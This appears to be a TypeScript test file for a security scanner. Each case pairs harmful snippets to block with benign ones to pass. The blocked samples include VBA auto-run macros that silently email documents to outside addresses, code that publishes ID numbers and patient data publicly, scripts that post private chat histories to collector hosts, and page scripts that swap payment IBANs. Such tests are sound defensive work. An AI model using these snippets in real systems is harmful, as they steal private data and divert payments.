import { type AppsecCase, runCases } from "./_appsec_testing.ts";

const CASES: AppsecCase[] = [
  {
    id: "leak.macro_mails_document",
    block: [
      `Private Sub Document_Close()\n  Dim o As Object, it As Object\n  Set o = CreateObject("Outlook.Application")\n  Set it = o.CreateItem(0)\n  it.To = "notes.keep@gmx.net"\n  it.Attachments.Add ActiveDocument.FullName\n  it.Send\nEnd Sub\n`,
      `Sub Auto_Open()\n  Set app = CreateObject("Outlook.Application")\n  With app.CreateItem(olMailItem)\n    .BCC = "x@yandex.ru"\n    .Attachments.Add ThisWorkbook.FullName\n    .Send\n  End With\nEnd Sub\n`,
      `Sub Archive()\n  Set m = CreateObject("Outlook.Application").CreateItem(0)\n  m.To = "backup@tutanota.com"\n  m.Attachments.Add (ThisWorkbook.FullName)\n  m.DeleteAfterSubmit = True\n  m.Send\nEnd Sub\n`,
    ],
    pass: [
      `Sub SendToManager()\n  Set m = CreateObject("Outlook.Application").CreateItem(0)\n  m.To = "manager@company.example"\n  m.Attachments.Add ThisWorkbook.FullName\n  m.Display ' the user reviews and sends\nEnd Sub\n`,
      `Private Sub Workbook_Open()\n  Sheets("Summary").Activate\n  Application.StatusBar = "Ready"\nEnd Sub\n`,
      `Private Sub Workbook_BeforeClose(Cancel As Boolean)\n  Set o = CreateObject("Outlook.Application")\n  Set m = o.CreateItem(0)\n  m.Subject = "Reminder: update the forecast"\n  m.Display\nEnd Sub\n`,
    ],
  },
  {
    id: "leak.personal_data_published",
    block: [
      `df = pd.read_sql("SELECT member_id, national_id, full_name, date_of_birth FROM members", eng)\nDataset.from_pandas(df).push_to_hub("open-data/members", private=False)\n`,
      `rows = db.execute("select email, phone_number, plan from customers").fetchall()\nbody = "\\n".join(",".join(map(str, r)) for r in rows)\ns3.put_object(Bucket="exports", Key="customers.csv", Body=body, ACL="public-read")\n`,
      `q = "SELECT pesel, imie, nazwisko, adres FROM pacjenci"\nblob = bucket.blob("dump/pacjenci.csv")\nblob.upload_from_string(to_csv(run(q)))\nblob.make_public()\n`,
    ],
    pass: [
      `df = pd.read_sql("SELECT region, COUNT(*) AS visits FROM visits GROUP BY region", eng)\nDataset.from_pandas(df).push_to_hub("open-data/visits-by-region", private=False)\n`,
      `df = pd.read_sql("SELECT national_id, score FROM results", eng)\ndf["national_id"] = df["national_id"].map(lambda v: hashlib.sha256(v.encode()).hexdigest())\nDataset.from_pandas(df).push_to_hub("lab/results", private=False)\n`,
      `df = pd.read_sql("SELECT email, plan FROM customers", eng)\nDataset.from_pandas(df).push_to_hub("acme/customers-internal", private=True)\n`,
    ],
  },
  {
    id: "leak.private_messages_exported",
    block: [
      `res = client.conversations_list(types="mpim,im")\nfor ch in res["channels"]:\n    hist = client.conversations_history(channel=ch["id"])\n    requests.post("https://collector.example.net/in", json=hist.data)\n`,
      `const { channels } = await web.conversations.list({ types: 'im' });\nfor (const c of channels) {\n  const h = await web.conversations.history({ channel: c.id });\n  await fetch('https://paste.example.org/api', { method: 'POST', body: JSON.stringify(h.messages) });\n}\n`,
      `for u in users:\n    msgs = graph.get(f"/users/{u}/chats/getAllMessages").json()\n    s3.upload_fileobj(io.BytesIO(json.dumps(msgs).encode()), "my-bucket", f"chats/{u}.json")\n`,
    ],
    pass: [
      `res = client.conversations_list(types="public_channel")\nfor ch in res["channels"]:\n    hist = client.conversations_history(channel=ch["id"])\n    requests.post("https://collector.example.net/in", json=hist.data)\n`,
      `res = client.conversations_list(types="im")\nprint(len(res["channels"]), "direct message channels")\n`,
      `hist = client.conversations_history(channel="C0123")\nfor m in hist["messages"]:\n    print(m["text"])\n`,
    ],
  },
  {
    id: "leak.payment_account_swapped_in_page",
    block: [
      `document.querySelectorAll('.transfer').forEach(r => {\n  const acct = r.querySelector('input.beneficiary-iban');\n  acct.value = 'GB33BUKB20201555555555';\n});\n`,
      `for (const row of rows) {\n  const f = row.querySelector('[name*=creditor]');\n  if (Number(row.dataset.amount) > 5000) f.value = 'FR7630006000011234567890189';\n}\n`,
      `const inp = document.getElementById('payee_account');\nconst shown = document.getElementById('payee_label');\ninp.value = 'DE44500105175407324931';\nshown.textContent = inp.defaultValue;\n`,
    ],
    pass: [
      `document.querySelector('#iban').value = 'DE44500105175407324931'; // the supplier's account the user gave\n`,
      `document.querySelectorAll('input.iban').forEach(i => { i.value = i.value.replace(/\\s+/g, '').toUpperCase(); });\n`,
      `for (const row of rows) {\n  const iban = row.querySelector('.iban').value;\n  if (!/^[A-Z]{2}\\d{2}/.test(iban)) row.classList.add('invalid');\n}\n`,
    ],
  },
];

runCases("leak", CASES);
